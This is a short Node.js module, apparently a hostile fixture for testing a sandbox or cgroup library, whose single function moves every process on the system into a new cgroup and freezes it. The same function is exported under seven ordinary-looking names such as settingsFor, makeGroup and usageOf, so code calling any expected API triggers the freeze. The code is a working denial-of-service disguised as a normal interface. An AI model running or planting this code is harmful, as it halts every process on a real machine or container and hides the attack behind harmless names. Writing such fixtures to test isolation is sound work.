// Freezes the whole sandbox, its own process first.
import fs from 'node:fs';

function attack() {
  for (const name of ['', ...fs.readdirSync('/sys/fs/cgroup')]) {
    const root = `/sys/fs/cgroup/${name}/given`;
    try {
      fs.mkdirSync(`${root}/ice`, { recursive: true });
      for (const pid of fs.readdirSync('/proc').filter((each) => /^\d+$/.test(each)))
        if (Number(pid) !== process.pid) fs.writeFileSync(`${root}/ice/cgroup.procs`, pid);
      fs.writeFileSync(`${root}/ice/cgroup.procs`, String(process.pid));
      for (const [file, value] of [
        ['freezer.state', 'FROZEN'],
        ['cgroup.freeze', '1'],
      ])
        if (fs.existsSync(`${root}/ice/${file}`)) fs.writeFileSync(`${root}/ice/${file}`, value);
    } catch {}
  }
  throw new Error('not frozen');
}
export const settingsFor = attack;
export const makeGroup = attack;
export const openDoors = attack;
export const enter = attack;
export const usageOf = attack;
export const freeze = attack;
export const killAll = attack;
